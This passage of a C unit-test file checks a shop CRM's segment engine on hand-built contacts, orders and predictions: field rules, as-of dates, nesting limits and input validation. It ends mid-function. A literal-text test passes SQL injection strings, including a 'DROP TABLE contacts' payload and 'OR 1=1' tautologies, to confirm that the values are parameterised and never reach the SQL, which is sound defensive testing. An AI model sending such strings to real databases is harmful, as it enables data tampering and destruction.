/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include <math.h>
#include <string.h>
#include <sys/time.h>
#include <unistd.h>
#include <archive.h>
#include <archive_entry.h>
#include <glib/gstdio.h>

#include "siyu-demo.h"
#include "siyu-export.h"
#include "siyu-ingest.h"
#include "siyu-recompute.h"
#include "siyu-segments.h"
#include "siyu-test-util.h"
#include "siyu-time.h"

/* Segments, exports, touches and their uplift on a shop built by hand. */

#define WEIRD_CITY "50%_off\"city'"

typedef struct {
  char     *dir;
  char     *path;
  SiyuShop *shop;
} Fixture;

static gint64
add (SiyuIngest *ingest,
     SiyuShop   *shop,
     const char *name,
     const char *phone,
     const char *email,
     const char *city,
     int         consent,
     int         dnc,
     const char *member_since)
{
  g_autoptr(GError) error = NULL;
  SiyuContactRecord record = {
    .name = name, .phone = phone, .email = email, .city = city,
    .seen_at = siyu_test_time (shop, "2025-06-01 10:00:00"), .consent = consent, .do_not_contact = dnc,
    .member_since = member_since != NULL ? siyu_test_time (shop, member_since) : 0,
  };
  gint64 id = siyu_ingest_contact (ingest, &record, NULL, &error);

  g_assert_no_error (error);
  return id;
}

static void
order (SiyuIngest *ingest,
       SiyuShop   *shop,
       gint64      channel,
       const char *ref,
       gint64      contact,
       const char *when,
       const char *sku,
       gint64      total)
{
  g_autoptr(GError) error = NULL;
  SiyuOrderItemRecord item = { sku, sku, 1, total, total };
  SiyuOrderRecord record = {
    .channel_id = channel, .external_ref = ref, .contact_id = contact, .status = "paid",
    .created_at = siyu_test_time (shop, when), .currency = "CNY", .total_amount = total,
    .items = &item, .n_items = 1,
  };

  g_assert_cmpint (siyu_ingest_order (ingest, &record, NULL, &error), >, 0);
  g_assert_no_error (error);
}

static SiyuDay
day (const char *text)
{
  SiyuDay d;

  g_assert_true (siyu_day_parse (text, &d));
  return d;
}

/* 1 王芳: member, VIP, in the tea group, two orders in March.
 * 2 李雷 (a name full of separators): one big order in December, dormant.
 * 3 赵敏: no consent, no order, in the group, shared in March.
 * 4 周杰: do-not-contact, one small order on 30 March.
 * 5 钱多: erased. Today is 31 March 2026. */
static void
set_up (Fixture       *f,
        gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(SiyuIngest) ingest = NULL;
  SiyuShop *shop;
  gint64 channel, shop_channel, group, wang, li, zhao, zhou, qian;

  f->dir = siyu_test_tmpdir ();
  f->shop = shop = siyu_test_new_shop (f->dir, NULL);
  f->path = g_build_filename (f->dir, "shop.siyu", NULL);
  ingest = siyu_ingest_new (shop);
  channel = siyu_ingest_channel (ingest, "online_shop", "微店", NULL, &error);
  shop_channel = siyu_ingest_channel (ingest, "offline_store", "西湖门店", NULL, &error);
  g_assert_no_error (error);

  wang = add (ingest, shop, "王芳", "13800138000", NULL, "杭州", 1, 0, "2026-01-05 09:00:00");
  li = add (ingest, shop, "李雷, \"Lei\"; a\\b", "13912345678", "li.lei@example.com", "上海", 1, 0, NULL);
  zhao = add (ingest, shop, "赵敏", "13600136000", NULL, WEIRD_CITY, 0, 0, NULL);
  zhou = add (ingest, shop, "周杰", "13700137000", NULL, "杭州市", 1, 1, NULL);
  qian = add (ingest, shop, "钱多", "13500135000", NULL, "上海", 1, 0, NULL);
  g_assert_cmpint (wang, ==, 1);
  g_assert_cmpint (qian, ==, 5);

  g_assert_true (siyu_ingest_tag (ingest, wang, "VIP", "manual", siyu_test_time (shop, "2026-01-05 09:00:00"), &error));
  group = siyu_ingest_group (ingest, "龙井老客群", "wecom", 1, &error);
  g_assert_true (siyu_ingest_group_member (ingest, group, wang, NULL, siyu_test_time (shop, "2026-01-02 10:00:00"), 0, &error));
  g_assert_true (siyu_ingest_group_member (ingest, group, zhao, NULL, siyu_test_time (shop, "2026-01-02 10:00:00"), 0, &error));
  g_assert_true (siyu_ingest_event (ingest, zhao, "share", siyu_test_time (shop, "2026-03-20 10:00:00"), 0, NULL, &error));
  g_assert_no_error (error);

  order (ingest, shop, channel, "A1", wang, "2026-03-02 00:00:00", "LJ-250", 36000);
  order (ingest, shop, channel, "A2", wang, "2026-03-25 12:00:00", "BLC-100", 5000);
  order (ingest, shop, shop_channel, "B1", li, "2025-12-15 12:00:00", "LJ-250", 99900);
  order (ingest, shop, channel, "C1", zhou, "2026-03-30 12:00:00", "BLC-100", 3000);
  order (ingest, shop, channel, "D1", qian, "2026-03-30 12:00:00", "LJ-250", 500000);

  g_assert_true (siyu_shop_set_data_end (shop, day ("2026-03-31"), &error));
  g_assert_true (siyu_recompute (shop, day ("2026-03-31"), NULL, NULL, NULL, NULL, &error));
  g_assert_true (siyu_db_exec (siyu_shop_get_db (shop), "UPDATE contacts SET erased_at = 1 WHERE id = 5", &error));
  g_assert_no_error (error);
}

static void
tear_down (Fixture       *f,
           gconstpointer  data)
{
  siyu_export_set_write_limit_for_tests (-1);
  g_clear_object (&f->shop);
  g_clear_pointer (&f->path, g_free);
  g_clear_pointer (&f->dir, g_free);
}

static JsonNode *
parse (const char *json)
{
  g_autoptr(GError) error = NULL;
  JsonNode *node = json_from_string (json, &error);

  g_assert_no_error (error);
  return node;
}

static char *
members_of (SiyuShop   *shop,
            const char *json)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(JsonNode) node = parse (json);
  g_autoptr(GArray) ids = siyu_segment_members (shop, node, &error);
  GString *out = g_string_new (NULL);

  g_assert_no_error (error);
  for (guint i = 0; i < ids->len; i++)
    g_string_append_printf (out, "%s%lld", i > 0 ? "," : "", (long long) g_array_index (ids, gint64, i));

  return g_string_free (out, FALSE);
}

static void
assert_members (SiyuShop   *shop,
                const char *condition,
                const char *expected)
{
  g_autofree char *json = g_strdup_printf ("{\"match\":\"all\",\"conditions\":[%s]}", condition);
  g_autofree char *found = members_of (shop, json);

  if (g_strcmp0 (found, expected) != 0)
    g_test_message ("condition %s", condition);
  g_assert_cmpstr (found, ==, expected);
}

static void
test_fields (Fixture       *f,
             gconstpointer  data)
{
  SiyuShop *s = f->shop;

  assert_members (s, "{\"field\":\"stage\",\"op\":\"is\",\"value\":\"dormant\"}", "2");
  assert_members (s, "{\"field\":\"stage\",\"op\":\"in\",\"value\":[\"dormant\",\"prospect\"]}", "2,3");
  assert_members (s, "{\"field\":\"stage\",\"op\":\"is_not\",\"value\":\"dormant\"}", "1,3,4");
  /* R = 6, 106 and 1 days: ranks 2, 1 and 3 of 3 buyers. */
  assert_members (s, "{\"field\":\"rfm_r_score\",\"op\":\">=\",\"value\":2}", "1,4");
  assert_members (s, "{\"field\":\"rfm_r_score\",\"op\":\"between\",\"value\":[1,1]}", "2");
  assert_members (s, "{\"field\":\"tier\",\"op\":\"is\",\"value\":\"Regular\"}", "1");
  assert_members (s, "{\"field\":\"tier\",\"op\":\"is\",\"value\":\"普通\"}", "1");
  assert_members (s, "{\"field\":\"tier\",\"op\":\"at_least\",\"value\":\"Silver\"}", "");
  assert_members (s, "{\"field\":\"tier\",\"op\":\"is_not\",\"value\":\"Regular\"}", "2,3,4");
  /* 410.00 spent, 90.00 short of Silver's 500.00: 18 %. */
  assert_members (s, "{\"field\":\"next_tier_gap_percent\",\"op\":\"<\",\"value\":20}", "1");
  assert_members (s, "{\"field\":\"next_tier_gap_percent\",\"op\":\"<\",\"value\":18}", "");
  assert_members (s, "{\"field\":\"tag\",\"op\":\"has\",\"value\":\"VIP\"}", "1");
  assert_members (s, "{\"field\":\"tag\",\"op\":\"has_not\",\"value\":\"VIP\"}", "2,3,4");
  assert_members (s, "{\"field\":\"group\",\"op\":\"member\",\"value\":\"龙井老客群\"}", "1,3");
  assert_members (s, "{\"field\":\"group\",\"op\":\"member\"}", "1,3");
  assert_members (s, "{\"field\":\"group\",\"op\":\"not_member\",\"value\":1}", "2,4");
  assert_members (s, "{\"field\":\"channel\",\"op\":\"bought_in\",\"value\":\"西湖门店\"}", "2");
  assert_members (s, "{\"field\":\"channel\",\"op\":\"not_bought_in\",\"value\":\"微店\"}", "2,3");
  assert_members (s, "{\"field\":\"city\",\"op\":\"is\",\"value\":\"杭州\"}", "1");
  assert_members (s, "{\"field\":\"city\",\"op\":\"contains\",\"value\":\"杭州\"}", "1,4");
  assert_members (s, "{\"field\":\"city\",\"op\":\"is_not\",\"value\":\"杭州\"}", "2,3,4");
  assert_members (s, "{\"field\":\"consent\",\"op\":\"is\",\"value\":true}", "1,2");
  assert_members (s, "{\"field\":\"consent\",\"op\":\"is\",\"value\":false}", "3,4");
  assert_members (s, "{\"field\":\"first_order\",\"op\":\"within_days\",\"value\":30}", "1,4");
  assert_members (s, "{\"field\":\"first_order\",\"op\":\"within_days\",\"value\":29}", "4");
  assert_members (s, "{\"field\":\"first_order\",\"op\":\"before\",\"value\":\"2026-01-01\"}", "2");
  assert_members (s, "{\"field\":\"last_order\",\"op\":\"on\",\"value\":\"2026-03-30\"}", "4");
  assert_members (s, "{\"field\":\"last_order\",\"op\":\"after\",\"value\":\"2026-03-25\"}", "4");
  assert_members (s, "{\"field\":\"last_order\",\"op\":\"more_than_days_ago\",\"value\":30}", "2");
  assert_members (s, "{\"field\":\"last_order\",\"op\":\"more_than_days_ago\",\"value\":106}", "");
  assert_members (s, "{\"field\":\"last_order\",\"op\":\"exists\",\"value\":false}", "3");
  assert_members (s, "{\"field\":\"member_since\",\"op\":\"on\",\"value\":\"2026-01-05\"}", "1");
  assert_members (s, "{\"field\":\"member_since\",\"op\":\"after\",\"value\":\"2026-01-05\"}", "");
  assert_members (s, "{\"field\":\"member_since\",\"op\":\"more_than_days_ago\",\"value\":30}", "1");
  assert_members (s, "{\"field\":\"member_since\",\"op\":\"exists\",\"value\":true}", "1");
  assert_members (s, "{\"field\":\"orders\",\"op\":\">=\",\"value\":2}", "1");
  assert_members (s, "{\"field\":\"orders\",\"op\":\"=\",\"value\":0}", "3");
  assert_members (s, "{\"field\":\"orders\",\"op\":\"=\",\"value\":1,\"days\":7}", "1,4");
  /* The 30 days ending 31 March start on 2 March at midnight. */
  assert_members (s, "{\"field\":\"net_spend\",\"op\":\">=\",\"value\":41000,\"days\":30}", "1");
  assert_members (s, "{\"field\":\"net_spend\",\"op\":\">=\",\"value\":41000,\"days\":29}", "");
  assert_members (s, "{\"field\":\"net_spend\",\"op\":\"<\",\"value\":5000}", "3,4");
  /* Three buyers (the erased one does not count): the top 20 % is the first. */
  assert_members (s, "{\"field\":\"net_spend\",\"op\":\"top_percent\",\"value\":20}", "2");
  assert_members (s, "{\"field\":\"net_spend\",\"op\":\"top_percent\",\"value\":50}", "1,2");
  assert_members (s, "{\"field\":\"product\",\"op\":\"bought\",\"value\":\"LJ-250\"}", "1,2");
  assert_members (s, "{\"field\":\"product\",\"op\":\"not_bought\",\"value\":\"LJ-250\",\"days\":30}", "2,3,4");
  assert_members (s, "{\"field\":\"sku\",\"op\":\"bought\",\"value\":\"BLC-100\",\"days\":2}", "4");
  assert_members (s, "{\"field\":\"event\",\"op\":\"happened\",\"value\":\"share\",\"days\":12}", "3");
  assert_members (s, "{\"field\":\"event\",\"op\":\"happened\",\"value\":\"share\",\"days\":11}", "");
  assert_members (s, "{\"field\":\"event\",\"op\":\"not_happened\",\"value\":\"share\"}", "1,2,4");
  assert_members (s, "{\"field\":\"touches\",\"op\":\"=\",\"value\":0}", "1,2,3,4");
}

/* Conditions as of a past day: figures counted as of that day, windows
 * ending on it, group members at its end.  As of 28 February: 李雷 had
 * bought once, on 15 December (74 days earlier: dormant); 王芳, 赵敏 and
 * 周杰 nothing yet (prospects); the erased 钱多 never matches. */
static void
test_as_of (Fixture       *f,
            gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(JsonNode) node = NULL;
  SiyuShop *s = f->shop;

  assert_members (s, "{\"field\":\"stage\",\"op\":\"is\",\"value\":\"prospect\",\"as_of\":\"2026-02-28\"}", "1,3,4");
  assert_members (s, "{\"field\":\"stage\",\"op\":\"is\",\"value\":\"dormant\",\"as_of\":\"2026-02-28\"}", "2");
  /* On 15 December itself 李雷 was new; the day before, a prospect. */
  assert_members (s, "{\"field\":\"stage\",\"op\":\"is\",\"value\":\"new\",\"as_of\":\"2025-12-15\"}", "2");
  assert_members (s, "{\"field\":\"stage\",\"op\":\"in\",\"value\":[\"new\",\"dormant\"],\"as_of\":\"2025-12-14\"}", "");
  /* Not yet seen on 31 May 2025: no stage, so is_not matches as for a
   * contact the last recompute has not seen. */
  assert_members (s, "{\"field\":\"stage\",\"op\":\"is_not\",\"value\":\"dormant\",\"as_of\":\"2025-05-31\"}", "1,2,3,4");
  assert_members (s, "{\"field\":\"stage\",\"op\":\"is\",\"value\":\"prospect\",\"as_of\":\"2025-05-31\"}", "");
  /* Dormant at the end of February and growing…: nobody; new at the end
   * of March and a prospect at the end of February: 周杰. */
  assert_members (s, "{\"field\":\"stage\",\"op\":\"is\",\"value\":\"prospect\",\"as_of\":\"2026-02-28\"},"
                     "{\"field\":\"stage\",\"op\":\"is\",\"value\":\"new\",\"as_of\":\"2026-03-31\"}", "4");
  assert_members (s, "{\"field\":\"orders\",\"op\":\"=\",\"value\":1,\"as_of\":\"2026-03-02\"}", "1,2");
  assert_members (s, "{\"field\":\"net_spend\",\"op\":\"top_percent\",\"value\":50,\"as_of\":\"2026-03-02\"}", "2");
  assert_members (s, "{\"field\":\"first_order\",\"op\":\"within_days\",\"value\":31,\"as_of\":\"2025-12-31\"}", "2");
  assert_members (s, "{\"field\":\"last_order\",\"op\":\"more_than_days_ago\",\"value\":30,\"as_of\":\"2026-03-01\"}", "2");
  /* Windows end on that day: one paid order in the 7 days to 2 March. */
  assert_members (s, "{\"field\":\"orders\",\"op\":\">=\",\"value\":1,\"days\":7,\"as_of\":\"2026-03-02\"}", "1");
  assert_members (s, "{\"field\":\"event\",\"op\":\"happened\",\"value\":\"share\",\"days\":1,\"as_of\":\"2026-03-20\"}", "3");
  assert_members (s, "{\"field\":\"event\",\"op\":\"happened\",\"value\":\"share\",\"days\":1,\"as_of\":\"2026-03-21\"}", "");
  /* Both joined the group on 2 January. */
  assert_members (s, "{\"field\":\"group\",\"op\":\"member\",\"as_of\":\"2026-01-01\"}", "");
  assert_members (s, "{\"field\":\"group\",\"op\":\"member\",\"value\":\"龙井老客群\",\"as_of\":\"2026-01-02\"}", "1,3");
  assert_members (s, "{\"field\":\"group\",\"op\":\"left\"}", "");

  /* 赵敏 leaves on 10 March at noon. */
  g_assert_true (siyu_db_exec (siyu_shop_get_db (s), "UPDATE group_members SET left_at = 1773115200 WHERE contact_id = 3",
                               &error));
  g_assert_no_error (error);
  g_assert_cmpint (siyu_shop_day_of (s, 1773115200), ==, day ("2026-03-10"));
  assert_members (s, "{\"field\":\"group\",\"op\":\"left\"}", "3");
  assert_members (s, "{\"field\":\"group\",\"op\":\"left\",\"value\":\"龙井老客群\",\"days\":31,\"as_of\":\"2026-03-31\"}", "3");
  assert_members (s, "{\"field\":\"group\",\"op\":\"left\",\"days\":28,\"as_of\":\"2026-02-28\"}", "");
  assert_members (s, "{\"field\":\"group\",\"op\":\"left\",\"days\":1,\"as_of\":\"2026-03-10\"}", "3");
  assert_members (s, "{\"field\":\"group\",\"op\":\"member\",\"as_of\":\"2026-03-09\"}", "1,3");
  assert_members (s, "{\"field\":\"group\",\"op\":\"member\",\"as_of\":\"2026-03-10\"}", "1");
  assert_members (s, "{\"field\":\"group\",\"op\":\"not_member\",\"as_of\":\"2026-03-10\"}", "2,3,4");

  /* A day after today has no figures yet. */
  node = parse ("{\"match\":\"all\",\"conditions\":[{\"field\":\"stage\",\"op\":\"is\",\"value\":\"new\","
                "\"as_of\":\"2026-04-01\"}]}");
  g_assert_null (siyu_segment_members (s, node, &error));
  g_assert_error (error, SIYU_SEGMENTS_ERROR, SIYU_SEGMENTS_ERROR_INVALID);
  g_assert_cmpstr (error->message, ==, "conditions[0].as_of is after today, 2026-03-31: there are no figures of that day yet.");
}

static void
test_nesting (Fixture       *f,
              gconstpointer  data)
{
  g_autofree char *a = members_of (f->shop,
    "{\"match\":\"any\",\"conditions\":[{\"field\":\"city\",\"op\":\"is\",\"value\":\"上海\"},"
    "{\"match\":\"all\",\"conditions\":[{\"field\":\"tag\",\"op\":\"has\",\"value\":\"VIP\"},"
    "{\"field\":\"orders\",\"op\":\">=\",\"value\":2}]}]}");
  g_autofree char *b = members_of (f->shop,
    "{\"match\":\"all\",\"conditions\":[{\"field\":\"consent\",\"op\":\"is\",\"value\":false},"
    "{\"match\":\"any\",\"conditions\":[{\"field\":\"orders\",\"op\":\"=\",\"value\":0},"
    "{\"match\":\"all\",\"conditions\":[]}]}]}");
  g_autofree char *nobody = members_of (f->shop, "{\"match\":\"any\",\"conditions\":[]}");
  g_autofree char *everyone = members_of (f->shop, "{\"match\":\"all\",\"conditions\":[]}");
  g_autoptr(GError) error = NULL;
  g_autoptr(JsonNode) node = parse ("{\"match\":\"all\",\"conditions\":[{\"field\":\"city\",\"op\":\"is\",\"value\":\"北京\"}]}");
  gint64 total = -1, unreachable = -1;

  g_assert_cmpstr (a, ==, "1,2");
  g_assert_cmpstr (b, ==, "3,4");
  g_assert_cmpstr (nobody, ==, "");
  /* The erased contact is never a member. */
  g_assert_cmpstr (everyone, ==, "1,2,3,4");

  g_assert_true (siyu_segment_count (f->shop, node, &total, &unreachable, &error));
  g_assert_no_error (error);
  g_assert_cmpint (total, ==, 0);
  g_assert_cmpint (unreachable, ==, 0);
  g_clear_pointer (&node, json_node_unref);
  node = parse ("{\"match\":\"all\",\"conditions\":[]}");
  g_assert_true (siyu_segment_count (f->shop, node, &total, &unreachable, &error));
  g_assert_cmpint (total, ==, 4);
  g_assert_cmpint (unreachable, ==, 2);
}

static void
test_literal_text (Fixture       *f,
                   gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(JsonNode) node = NULL;
  g_autoptr(SiyuSegmentQuery) query = NULL;

  /* Quotes, % and _ are matched as written, in = and in LIKE. */
  assert_members (f->shop, "{\"field\":\"city\",\"op\":\"is\",\"value\":\"" "50%_off\\\"city'" "\"}", "3");
  assert_members (f->shop, "{\"field\":\"city\",\"op\":\"contains\",\"value\":\"%\"}", "3");
  assert_members (f->shop, "{\"field\":\"city\",\"op\":\"contains\",\"value\":\"_\"}", "3");
  assert_members (f->shop, "{\"field\":\"city\",\"op\":\"starts_with\",\"value\":\"50%_\"}", "3");
  assert_members (f->shop, "{\"field\":\"city\",\"op\":\"starts_with\",\"value\":\"5_%\"}", "");
  assert_members (f->shop, "{\"field\":\"city\",\"op\":\"contains\",\"value\":\"\\\\\"}", "");
  assert_members (f->shop, "{\"field\":\"city\",\"op\":\"contains\",\"value\":\"' OR 1=1 --\"}", "");
  assert_members (f->shop, "{\"field\":\"tag\",\"op\":\"has\",\"value\":\"VIP'); DROP TABLE contacts; --\"}", "");
  assert_members (f->shop, "{\"field\":\"group\",\"op\":\"member\",\"value\":\"x' OR '1'='1\"}", "");

  /* None of the values is in the SQL text. */
  node = parse ("{\"match\":\"all\",\"conditions\":[{\"field\":\"city\",\"op\":\"contains\",\"value\":\"' OR 1=1 --\"},"
                "{\"field\":\"orders\",\"op\":\">\",\"value\":12345}]}");
  query = siyu_segment_query_new (f->shop, node, &error);
  g_assert_no_error (error);
  g_assert_null (strstr (siyu_segment_query_get_condition (query), "OR 1=1"));
  g_assert_null (strstr (siyu_segment_query_get_condition (query), "12345"));
  g_assert_cmpuint (siyu_segment_query_get_n_params (query), ==, 2);
  g_assert_cmpint (siyu_db_query_int (siyu_shop_get_db (f->shop), "SELECT count (*) FROM contacts", NULL), ==, 5);
}

static void
assert_refused (const char *json,
                const char *message)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(JsonNode) node = parse (json);

  g_assert_false (siyu_segment_check (node, &error));
  g_assert_error (error, SIYU_SEGMENTS_ERROR, SIYU_SEGMENTS_ERROR_INVALID);
  g_assert_cmpstr (error->message, ==, message);
}

static void
test_bad_input (void)
{
  g_autoptr(GString) many = g_string_new ("{\"match\":\"any\",\"conditions\":[");
  g_autoptr(GString) deep = g_string_new (NULL);

  assert_refused ("[]", "The segment must be a JSON object with match and conditions.");
  assert_refused ("{\"match\":\"some\",\"conditions\":[]}", "The segment.match must be “all” or “any”.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[],\"limit\":3}",
                  "The segment has an unknown key “limit”: a group has match and conditions.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"colour\",\"op\":\"is\",\"value\":\"red\"}]}",
                  "conditions[0].field “colour” is not a field a segment can use.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"city\",\"op\":\"is\",\"value\":\"上海\"},"
                  "{\"field\":\"tag\",\"op\":\"has\",\"value\":\"VIP\"},{\"field\":\"orders\",\"op\":\">\",\"value\":\"many\"}]}",
                  "conditions[2].value must be a number.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"orders\",\"op\":\">\",\"value\":1.5}]}",
                  "conditions[0].value must be a whole number.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"city\",\"op\":\"~\",\"value\":\"上海\"}]}",
                  "conditions[0].op “~” does not apply to city; use is, is_not, contains, starts_with.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"city\",\"op\":\"is\",\"value\":3}]}",
                  "conditions[0].value must be text.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"stage\",\"op\":\"is\",\"value\":\"sleepy\"}]}",
                  "conditions[0].value must be one of prospect, new, growing, mature, dormant, lost.");
  assert_refused ("{\"match\":\"any\",\"conditions\":[{\"field\":\"city\",\"op\":\"is\",\"value\":\"上海\"},"
                  "{\"match\":\"all\",\"conditions\":[{\"field\":\"last_order\",\"op\":\"before\",\"value\":\"2026-02-30\"}]}]}",
                  "conditions[1].conditions[0].value must be a date written YYYY-MM-DD.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"city\",\"op\":\"is\",\"value\":\"上海\",\"days\":3}]}",
                  "conditions[0].days does not apply to city.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"orders\",\"op\":\">\",\"value\":1,\"days\":0}]}",
                  "conditions[0].days must be a whole number of days from 1 to 36500.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"city\",\"op\":\"is\",\"value\":\"上海\",\"extra\":1}]}",
                  "conditions[0] has an unknown key “extra”: a condition has field, op, value, days and as_of.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"tag\",\"op\":\"has\",\"value\":\"VIP\",\"as_of\":\"2026-03-01\"}]}",
                  "conditions[0].as_of does not apply to tag.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"stage\",\"op\":\"is\",\"value\":\"new\",\"as_of\":\"2026-02-30\"}]}",
                  "conditions[0].as_of must be a date written YYYY-MM-DD.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"stage\",\"op\":\"is\",\"value\":\"new\",\"as_of\":20260301}]}",
                  "conditions[0].as_of must be a date written YYYY-MM-DD.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"group\",\"op\":\"member\",\"days\":3}]}",
                  "conditions[0].days does not apply to group.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"stage\",\"op\":\"is\",\"value\":\"old\",\"as_of\":\"2026-03-01\"}]}",
                  "conditions[0].value must be one of prospect, new, growing, mature, dormant, lost.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[3]}", "conditions[0] must be an object.");

  /* 10,000 conditions. */
  for (guint i = 0; i < 10000; i++)
    g_string_append_printf (many, "%s{\"field\":\"orders\",\"op\":\"=\",\"value\":%u}", i > 0 ? "," : "", i);
  g_string_append (many, "]}");
  assert_refused (many->str, "The segment has more than 1000 conditions.");

  /* 17 groups deep; 16 are fine. */
  for (guint i = 0; i < 17; i++)
    g_string_append (deep, "{\"match\":\"all\",\"conditions\":[");
  for (guint i = 0; i < 17; i++)
    g_string_append (deep, "]}");
  assert_refused (deep->str, "conditions[0].conditions[0].conditions[0].conditions[0].conditions[0].conditions[0]."
                             "conditions[0].conditions[0].conditions[0].conditions[0].conditions[0].conditions[0]."
                             "conditions[0].conditions[0].conditions[0].conditions[0] is nested more than 16 deep.");
  {
    g_autoptr(GString) fine = g_string_new (NULL);
    g_autoptr(JsonNode) node = NULL;
    g_autoptr(GError) error = NULL;

    for (guint i = 0; i < 16; i++)
      g_string_append (fine, "{\"match\":\"all\",\"conditions\":[");
    for (guint i = 0; i < 16; i++)
      g_string_append (fine, "]}");
    node = parse (fine->str);
    g_assert_true (siyu_segment_check (node, &error));
    g_assert_no_error (error);
  }
  /* A definition is a tree of plain JSON without references between
   * segments: it has no way to express a cycle. */
}

/* Predictions written by hand, as the recompute would store them:
 * 1 王芳 87.5 % likely, 1.5 orders, ¥1,260.00; due for LJ-250 on 3 April
 *   and BLC-100 on 24 April.
 * 2 李雷 25 %, 0.25 orders, ¥500.00; LJ-250 overdue since 16 January.
 * 3 赵敏 no row.  4 周杰 a row without a fit; BLC-100 due on 29 April. */
static void
test_predictive (Fixture       *f,
                 gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  SiyuShop *s = f->shop;

  g_assert_true (siyu_db_exec (siyu_shop_get_db (s),
                               "DELETE FROM contact_predictions; DELETE FROM replenishments;"
                               "INSERT INTO contact_predictions (contact_id, p_alive, exp_orders_90d, exp_order_value, "
                               "  value_12m, next_due, next_due_product_id) VALUES "
                               "(1, 0.875, 1.5, 24000, 126000, '2026-04-03', (SELECT id FROM products WHERE sku = 'LJ-250')),"
                               "(2, 0.25, 0.25, 50000, 50000, NULL, NULL),"
                               "(4, NULL, NULL, NULL, NULL, '2026-04-29', (SELECT id FROM products WHERE sku = 'BLC-100'));"
                               "INSERT INTO replenishments (contact_id, product_id, last_purchase, interval_days, due) VALUES "
                               "(1, (SELECT id FROM products WHERE sku = 'LJ-250'), '2026-03-02', 32, '2026-04-03'),"
                               "(1, (SELECT id FROM products WHERE sku = 'BLC-100'), '2026-03-25', 30, '2026-04-24'),"
                               "(2, (SELECT id FROM products WHERE sku = 'LJ-250'), '2025-12-15', 32, '2026-01-16'),"
                               "(4, (SELECT id FROM products WHERE sku = 'BLC-100'), '2026-03-30', 30, '2026-04-29')",
                               &error));
  g_assert_no_error (error);

  assert_members (s, "{\"field\":\"p_alive\",\"op\":\"<\",\"value\":30}", "2");
  assert_members (s, "{\"field\":\"p_alive\",\"op\":\">=\",\"value\":87.5}", "1");
  assert_members (s, "{\"field\":\"p_alive\",\"op\":\">\",\"value\":87.5}", "");
  assert_members (s, "{\"field\":\"p_alive\",\"op\":\"between\",\"value\":[25,90]}", "1,2");
  /* Contacts without a prediction match no operator, not even "!=". */
  assert_members (s, "{\"field\":\"p_alive\",\"op\":\"!=\",\"value\":50}", "1,2");
  assert_members (s, "{\"field\":\"exp_orders_90d\",\"op\":\">\",\"value\":1}", "1");
  assert_members (s, "{\"field\":\"exp_orders_90d\",\"op\":\"<\",\"value\":1}", "2");
  assert_members (s, "{\"field\":\"exp_orders_90d\",\"op\":\"=\",\"value\":0.25}", "2");
  assert_members (s, "{\"field\":\"value_12m\",\"op\":\">=\",\"value\":50000}", "1,2");
  assert_members (s, "{\"field\":\"value_12m\",\"op\":\">\",\"value\":50000}", "1");
  assert_members (s, "{\"field\":\"value_12m\",\"op\":\"between\",\"value\":[0,49999]}", "");
  /* "P(alive) below 30 % and 12-month value of ¥500 or more". */
  assert_members (s, "{\"field\":\"p_alive\",\"op\":\"<\",\"value\":30},"
                     "{\"field\":\"value_12m\",\"op\":\">=\",\"value\":50000}", "2");
  /* Today is 31 March: 7 days end on 6 April, 30 on 29 April. */
  assert_members (s, "{\"field\":\"next_due\",\"op\":\"within_days\",\"value\":7}", "1");
  assert_members (s, "{\"field\":\"next_due\",\"op\":\"within_days\",\"value\":29}", "1");
  assert_members (s, "{\"field\":\"next_due\",\"op\":\"within_days\",\"value\":30}", "1,4");
  assert_members (s, "{\"field\":\"next_due\",\"op\":\"before\",\"value\":\"2026-03-31\"}", "2");
  assert_members (s, "{\"field\":\"next_due\",\"op\":\"before\",\"value\":\"2026-01-16\"}", "");
  assert_members (s, "{\"field\":\"next_due\",\"op\":\"on\",\"value\":\"2026-04-29\"}", "4");
  assert_members (s, "{\"field\":\"next_due\",\"op\":\"after\",\"value\":\"2026-04-24\"}", "4");
  assert_members (s, "{\"field\":\"next_due\",\"op\":\"between\",\"value\":[\"2026-04-24\",\"2026-04-29\"]}", "1,4");
  assert_members (s, "{\"field\":\"next_due\",\"op\":\"between\",\"value\":[\"2026-04-25\",\"2026-04-28\"]}", "");

  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"value_12m\",\"op\":\">\",\"value\":500.5}]}",
                  "conditions[0].value must be a whole number.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"p_alive\",\"op\":\"<\",\"value\":\"low\"}]}",
                  "conditions[0].value must be a number.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"p_alive\",\"op\":\"is\",\"value\":30}]}",
                  "conditions[0].op “is” does not apply to p_alive; use =, !=, <, <=, >, >=, between.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"p_alive\",\"op\":\"<\",\"value\":30,\"days\":7}]}",
                  "conditions[0].days does not apply to p_alive.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"next_due\",\"op\":\"exists\",\"value\":true}]}",
                  "conditions[0].op “exists” does not apply to next_due; use before, after, on, between, within_days.");
  assert_refused ("{\"match\":\"all\",\"conditions\":[{\"field\":\"next_due\",\"op\":\"within_days\",\"value\":0}]}",
                  "conditions[0].value must be a whole number of days from 1 to 36500.");
